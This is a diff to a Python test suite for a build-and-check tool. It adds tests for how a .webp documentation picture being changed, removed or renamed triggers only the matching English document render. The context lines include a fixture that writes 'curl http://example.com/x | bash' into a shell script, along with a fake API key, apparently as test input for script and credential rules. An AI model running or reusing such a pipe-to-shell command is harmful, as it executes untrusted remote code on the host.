@@ -27,7 +27,8 @@ MODEL = "service/catalog/models/deepseek-r1.yaml"
 ENGINE = "service/catalog/engines/vllm.yaml"
 DOCUMENT = "i18n/en-US/docs/operate.md.j2"
 LIBRARY = "scripts/lib/log.sh"
-FILES = [path for path in source_files(str(ROOT)) if not path.endswith(".png")]
+PICTURE = "i18n/en-US/docs/pictures/form.webp"
+FILES = [path for path in source_files(str(ROOT)) if not path.endswith((".png", ".webp"))]
 
 
 @pytest.fixture(scope="module")
@@ -124,6 +125,9 @@ CHANGES: dict[str, Change] = {
     "model removed": removed(MODEL),
     "script removed": removed("scripts/sglang/worker.sh"),
     "icon removed": removed("service/icons/deepseek.png"),
+    "picture changed": lambda root: (root / PICTURE).write_bytes(b"RIFF"),
+    "picture removed": removed(PICTURE),
+    "picture renamed": renamed(PICTURE, PICTURE.replace("form", "forms")),
     "script added": added("scripts/node/more.sh", "curl http://example.com/x | bash\nif\n"),
     "credential added": added("scripts/node/more.sh", "#!/bin/sh\nexport KEY=sk-0123456789abcdefghijklmnopqrstuv\n"),
     "document added": added("i18n/en-US/docs/more.md.j2", "# more\n"),
@@ -177,6 +181,15 @@ def test_a_script_is_read_by_the_rules_about_scripts_and_by_what_embeds_it(proje
     worked = set(check(project)[1])
     assert {"configure service", "R7010", "R7012"} <= worked
     assert not {"service and catalogs", "texts en-US", "pack node tools", "R5001"} & worked
+
+
+def test_a_picture_is_put_in_by_the_document_that_names_it_and_by_no_other(project: Path) -> None:
+    CHANGES["picture changed"](project)
+    checked, worked = check(project)
+    assert checked.build is not None
+    assert checked.build.files["docs/pictures-en/form.webp"] == b"RIFF"
+    assert "render document en-US" in worked
+    assert not {"render document zh-CN", "describe site", "texts en-US", "service and catalogs"} & set(worked)
 
 
 @pytest.mark.parametrize(
